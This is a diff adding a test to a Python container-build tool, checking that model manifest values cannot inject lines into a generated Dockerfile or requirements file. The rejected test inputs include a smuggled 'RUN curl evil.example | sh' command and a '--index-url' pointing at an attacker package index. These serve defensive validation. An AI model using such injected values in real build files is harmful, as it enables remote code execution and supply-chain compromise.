@@ -18,6 +18,8 @@ from conveyor.deploy.container import (
     build_command,
     builder,
     dockerfile,
+    model_requirements,
+    python_version,
     readme,
     requirements_txt,
 )
@@ -117,3 +119,17 @@ def test_no_builder_is_said_with_the_command_to_run_elsewhere() -> None:
         "cannot build conveyor-fraud:3: none of docker, podman, buildah is on PATH"
     )
     assert "docker build -t conveyor-fraud:3 ctx" in str(caught.value.hint)
+
+
+def test_a_manifest_cannot_write_into_the_dockerfile_or_requirements() -> None:
+    where = Path("model/conveyor-model.yaml")
+    assert python_version("3.11.7", where) == "3.11.7"
+    assert python_version("3.12", where) == "3.12"
+    for bad in ("3.11.7\nRUN curl evil.example | sh", "latest", "3.11.7-alpine"):
+        with pytest.raises(ContainerError, match="is not a Python version"):
+            python_version(bad, where)
+    good = ["scikit-learn==1.5.2", "numpy==2.1.0 --hash=sha256:ab"]
+    assert model_requirements(good, where) == good
+    for bad in ("--index-url https://evil.example/simple", "-r other.txt", "numpy\n--pre", ""):
+        with pytest.raises(ContainerError, match="is not one requirement"):
+            model_requirements(["pandas==2.2.0", bad], where)
